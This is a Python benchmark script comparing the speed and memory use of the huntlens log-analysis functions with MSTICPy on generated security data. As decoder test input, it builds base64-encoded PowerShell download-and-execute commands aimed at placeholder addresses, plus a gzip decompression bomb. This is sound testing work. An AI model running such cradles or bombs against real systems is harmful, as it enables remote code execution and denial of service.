"""CPU time and memory of the analysis functions, beside MSTICPy 3.0.2 where it has the function.

    python benchmarks/analyze_speed.py [--tasks ioc,base64] [--sizes 1000,10000] [--alone]

MSTICPy lives in an environment of its own, `.bench/msticpy`, that the first run makes. Each figure is one fresh process
on the same generated rows; imports and the making of the rows are not counted. A run of MSTICPy that takes over 60
seconds is ended and not shown; nothing is extrapolated.
"""

from __future__ import annotations

import argparse
import base64
import gzip
import json
import resource
import subprocess
import sys
import tempfile
import time
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
PEER = ROOT / ".bench" / "msticpy"
DATA = ROOT.parent / "shared" / "data" / "security-datasets"
LIMIT = 60
SIZES = (1_000, 10_000, 100_000, 1_000_000)
# The largest size that MSTICPy finishes within the limit on the machine of the figures.
PEER_SIZES = {"ioc": 1_000, "commands": 10_000, "base64": 10_000, "sessions": 65_000}


def random(seed: int = 5):
    import numpy as np

    return np.random.default_rng(seed)


def recorded(rows: int):
    """Messages of Windows events as recorded in attacks (scripts of 20 kB among them); else those of services."""
    import pandas as pd

    found = []
    for name in ("empire_dcom_shellwindows_stager", "purplesharp_ad_playbook_I"):
        path = DATA / f"{name}.zip"
        if not path.exists():
            return messages(rows)
        with zipfile.ZipFile(path) as archive:
            lines = (line for member in archive.namelist() for line in archive.open(member))
            found += [message for message in (json.loads(line).get("Message") for line in lines) if message]
    return pd.DataFrame({"text": (found * (rows // len(found) + 1))[:rows]})


def messages(rows: int):
    """Lines of services as Syslog holds them: mostly no indicator, some with several."""
    import pandas as pd

    r = random()
    kinds = (
        "Accepted publickey for svc{a} from 10.{b}.{c}.{d} port {p} ssh2: RSA SHA256:{h}",
        "GET https://cdn{a}.example-files.com/static/{h}/app.js?v={p} 200 from 203.0.{c}.{d} agent Mozilla/5.0 (X11)",
        "omsagent wrote /var/opt/microsoft/omsagent/state/CUSTOM_LOG_{a}.pos in {p} ms; next run of unit {b}",
        "blocked file {h} at C:\\Users\\user{a}\\AppData\\Local\\Temp\\inst{b}.exe, mail to soc{c}@contoso.com",
        "session {p} closed for user root by (uid=0) after {d} s with exit status {b}",
    )
    n = r.integers(1, 250, (rows, 4)).tolist()
    h = [bytes(one).hex() for one in r.integers(0, 256, (rows, 16), dtype="uint8")]
    lines = [kinds[i % 5].format(a=a, b=b, c=c, d=d, p=20000 + i % 40000, h=h[i]) for i, (a, b, c, d) in enumerate(n)]
    return pd.DataFrame({"text": lines})


def processes(rows: int):
    import pandas as pd

    r = random()
    ids = r.integers(0, 50, rows)
    parents = [max(int(n * 0.9) - int(k), 0) for n, k in enumerate(ids)]
    names = r.choice(["cmd.exe", "powershell.exe", "svchost.exe", "chrome.exe", "whoami.exe"], rows)
    when = pd.Timestamp("2026-03-01", tz="UTC") + pd.to_timedelta(sorted(r.integers(0, 604_800, rows)), unit="s")
    users = r.integers(0, 2000, rows).tolist()
    return pd.DataFrame({
        "TenantId": "802d39e1-9d70-404d-832c-2de5e2478eda", "TimeGenerated": when, "EventID": 4688,
        "Account": [f"CORP\\user{n}" for n in users], "Computer": [f"ws{n % 30:03}.corp.example" for n in users],
        "SubjectUserSid": [f"S-1-5-21-1004336348-1177238915-682003330-{n + 1000}" for n in users],
        "SubjectUserName": [f"user{n}" for n in users], "SubjectDomainName": "CORP", "SubjectLogonId": "0x3e7",
        "NewProcessId": [hex(n + 16) for n in range(rows)], "ProcessId": [hex(n + 16) for n in parents],
        "NewProcessName": ["C:\\Windows\\System32\\" + name for name in names], "TokenElevationType": "%%1936",
        "ParentProcessName": "C:\\Windows\\System32\\services.exe", "TargetLogonId": "0x0",
        "IpAddress": [f"10.{n % 200}.{n % 7}.{n % 250}" for n in users],
        "CommandLine": [f"{name} --run {n % 977} C:\\Users\\user{n % 2000}\\a.txt" for n, name in enumerate(names)],
        "TimeCreatedUtc": when,
    })  # fmt: skip


def encoded(rows: int):
    import pandas as pd

    scripts = (
        base64.b64encode(
            f"iex (new-object net.webclient).downloadstring('http://203.0.113.{n % 250}/{n}')".encode("utf-16-le")
        )
        for n in range(rows)
    )
    return pd.DataFrame({"text": [f"powershell.exe -nop -enc {one.decode()}" for one in scripts]})


def events(rows: int):
    import pandas as pd

    r = random()
    users = r.integers(0, max(2, rows // 60), rows)
    when = pd.Timestamp("2026-03-01", tz="UTC") + pd.to_timedelta(r.integers(0, 3 * 86_400, rows), unit="s")
    names = r.choice(["Get-Mailbox", "Set-Mailbox", "New-InboxRule", "Set-User", "Add-Permission", "Remove-Rule"], rows)
    return pd.DataFrame({"user": [f"u{n}" for n in users], "TimeGenerated": when, "event": names})


def audit(rows: int) -> str:
    """A log file of so many lines; seven an event that starts a process."""
    r = random()
    numbers = r.integers(1000, 30_000, rows // 6 + 1).tolist()
    line = "type={} msg=audit({}.{:03}:{}): {}"
    out = []
    for n, pid in enumerate(numbers):
        at = (1_551_485_405 + n // 3, n % 1000, n + 7)
        script = f"/usr/bin/check --pid {pid} | grep run{n}".encode().hex().upper()
        out += [
            line.format("SYSCALL", *at, f"arch=c000003e syscall=59 success=yes exit=0 a0=7fdd090dac18 a1=7fdd0657a630"
                " a2=7ffec9cad0c0 a3=9 items=2"
                f" ppid={pid} pid={pid + n % 9} auid=4294967295 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0"
                ' fsgid=0 tty=(none) ses=4294967295 comm="sh" exe="/bin/dash" subj==unconfined key=(null)'),
            line.format("EXECVE", *at, f'argc=3 a0="/bin/sh" a1="-c" a2={script}'),
            line.format("CWD", *at, ' cwd="/var/lib/waagent"'),
            line.format("PATH", *at, f'item=0 name="/bin/sh" inode={pid} dev=08:01 mode=0100755 ouid=0 ogid=0'
                " rdev=00:00 nametype=NORMAL"
                " cap_fp=0000000000000000 cap_fi=0000000000000000 cap_fe=0 cap_fver=0"),
            line.format("PROCTITLE", *at, f"proctitle=2F62696E2F7368002D6300{script}"),
            line.format("USER_LOGIN", *at[:2], at[2] + 10_000_000, f"pid={pid} uid=0 auid=4294967295 ses=1"
                " subj==unconfined msg='op=login acct=\"root\""
                f' exe="/usr/sbin/sshd" hostname=? addr=36.156.24.{n % 250} terminal=sshd res=failed\''),
        ]  # fmt: skip
    path = Path(tempfile.gettempdir()) / f"huntlens-audit-{rows}.log"
    path.write_text("\n".join(out[:rows]) + "\n", encoding="utf-8")
    return str(path)


def bomb(_rows: int) -> str:
    """A text of some 26 kB that unpacks to 20 MB."""
    return base64.b64encode(gzip.compress(b"\0" * 20_000_000)).decode()


TASKS = {
    "ioc": recorded,
    "lines": messages, "commands": processes, "base64": encoded, "bomb": bomb, "tree": processes, "mask": processes,
    "sessions": events, "auditd": audit,
}  # fmt: skip


def ours(task: str):
    """The function of huntlens for a task; of the light imports nothing is left to the measured part."""
    from huntlens import mask
    from huntlens.analyze import auditd, ioc, process_tree, sequences, sessions
    from huntlens.analyze import base64 as unpack

    return {
        "ioc": lambda data: ioc.extract(data, ["text"]),
        "lines": lambda data: ioc.extract(data, ["text"]),
        "commands": lambda data: ioc.extract(data, ["CommandLine"]),
        "base64": lambda data: unpack.decode(data, "text"),
        "bomb": lambda data: unpack.decode([data]),
        "tree": process_tree.build,
        "mask": lambda data: mask.mask(data, key="k"),
        "sessions": lambda data: sequences.score(sessions.sessionize(data, "user", "event"), "event"),
        "auditd": auditd.read,
    }[task]


def theirs(task: str):
    from msticpy.analysis.anomalous_sequence import anomalous, sessionize
    from msticpy.data import data_obfus
    from msticpy.transform import auditdextract, base64unpack, iocextract, proc_tree_builder

    def sequences(data):
        found = sessionize.sessionize_data(data, ["user"], "TimeGenerated", 60, 15, "event")
        return anomalous.score_sessions(found, "event_list", 3)

    return {
        "ioc": lambda data: iocextract.IoCExtract().extract(data=data, columns=["text"]),
        "lines": lambda data: iocextract.IoCExtract().extract(data=data, columns=["text"]),
        "commands": lambda data: iocextract.IoCExtract().extract(data=data, columns=["CommandLine"]),
        "base64": lambda data: base64unpack.unpack_df(data, column="text"),
        "bomb": base64unpack.unpack,
        "tree": proc_tree_builder.build_process_tree,
        "mask": data_obfus.mask_df,
        "sessions": sequences,
        "auditd": auditdextract.read_from_file,
    }[task]


def work(side: str, task: str, rows: int) -> None:
    """Run one task in this process and print what it took."""
    data = TASKS[task](rows)
    run = (ours if side == "ours" else theirs)(task)
    before = resource.getrusage(resource.RUSAGE_SELF)
    started = time.perf_counter()
    result = run(data)
    wall = time.perf_counter() - started
    after = resource.getrusage(resource.RUSAGE_SELF)
    cpu = after.ru_utime + after.ru_stime - before.ru_utime - before.ru_stime
    count = len(result) if hasattr(result, "__len__") else 0
    print("\n" + json.dumps({"cpu": cpu, "wall": wall, "mb": (after.ru_maxrss - before.ru_maxrss) / 1024, "n": count}))


def peer() -> str:
    """The Python of the environment with MSTICPy, made on first use."""
    python = PEER / "bin" / "python"
    if not python.exists():
        subprocess.run([sys.executable, "-m", "venv", str(PEER)], check=True)
        subprocess.run([str(python), "-m", "pip", "install", "-q", "msticpy==3.0.2"], check=True)
    return str(python)


def measure(python: str, side: str, task: str, rows: int, limit: int) -> dict[str, float] | None:
    command = [python, "-W", "ignore", __file__, "--worker", side, task, str(rows)]
    try:
        done = subprocess.run(command, capture_output=True, text=True, timeout=limit, check=False)
    except subprocess.TimeoutExpired:
        return None
    if done.returncode:
        print(done.stderr[-600:], file=sys.stderr)
        return None
    return json.loads(done.stdout.strip().splitlines()[-1])


def shown(found: dict[str, float] | None) -> str:
    return f"{found['cpu']:8.2f} s {found['mb']:7.0f} MB" if found else " " * 21 + "-"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--tasks", default=",".join(TASKS))
    parser.add_argument("--sizes", default=",".join(map(str, SIZES)))
    parser.add_argument("--alone", action="store_true", help="without MSTICPy")
    parser.add_argument("--worker", nargs=3)
    options = parser.parse_args()
    if options.worker:
        work(options.worker[0], options.worker[1], int(options.worker[2]))
        return
    print(f"{'task':10}{'rows':>10}  {'huntlens':>21}  {'MSTICPy 3.0.2':>21}  {'times':>7}")
    for task in options.tasks.split(","):
        sizes = (
            [1]
            if task == "bomb"
            else sorted({int(size) for size in options.sizes.split(",")} | {PEER_SIZES.get(task, 0)} - {0})
        )
        for rows in sizes:
            mine = measure(sys.executable, "ours", task, rows, 600)
            skip = options.alone or rows > PEER_SIZES.get(task, 300_000)
            other = None if skip else measure(peer(), "theirs", task, rows, 2 * LIMIT)
            other = other if other and other["cpu"] < LIMIT else None
            times = f"{other['cpu'] / mine['cpu']:6.1f}x" if mine and other else ""
            print(f"{task:10}{rows:>10,}  {shown(mine):>21}  {shown(other):>21}  {times:>7}", flush=True)


if __name__ == "__main__":
    main()
